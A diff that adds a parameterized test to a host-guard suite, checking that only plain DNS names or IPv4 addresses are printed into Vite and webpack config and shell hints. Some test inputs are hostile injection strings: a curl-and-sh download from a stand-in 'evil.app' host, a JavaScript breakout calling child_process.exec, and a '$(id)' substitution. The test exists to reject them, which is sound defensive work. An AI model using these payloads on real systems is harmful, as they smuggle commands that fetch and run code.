@@ -66,4 +66,24 @@ describe('host-guard', () => {
     });
     expect(explain.fix?.(input)?.url).toBe('http://localhost:5173/a');
   });
+
+  // security-review row 3: the config and shell lines print only a DNS name or an IPv4 address.
+  it.each([
+    ['devbox.test', 'devbox.test'],
+    ['devbox.test.', 'devbox.test'],
+    ['192.168.1.20', '192.168.1.20'],
+    ['a;{curl,-o,x,e.evil.app};{sh,x};b.evil.app', { key: 'kind.hostGuard.anyHost' }],
+    ["x'];require('child_process').exec('id');['.test", { key: 'kind.hostGuard.anyHost' }],
+    ['$(id).test', { key: 'kind.hostGuard.anyHost' }],
+    ['[fd00::1]', { key: 'kind.hostGuard.anyHost' }],
+  ])('the host %j goes into the lines as %j', (host, printed) => {
+    const input = { url: 'http://x:5173/', host, port: 5173, scheme: 'http:' };
+    const vite = explain.checklist?.({ ...input, code: VITE_HOST_CODE }) ?? [];
+    const webpack = explain.checklist?.({ ...input, code: WEBPACK_HOST_CODE }) ?? [];
+    expect(vite.slice(0, 2)).toEqual([
+      { key: 'kind.hostGuard.viteConfig', args: [printed] },
+      { key: 'kind.hostGuard.viteEnv', args: [printed] },
+    ]);
+    expect(webpack[0]).toEqual({ key: 'kind.hostGuard.webpackConfig', args: [printed] });
+  });
 });
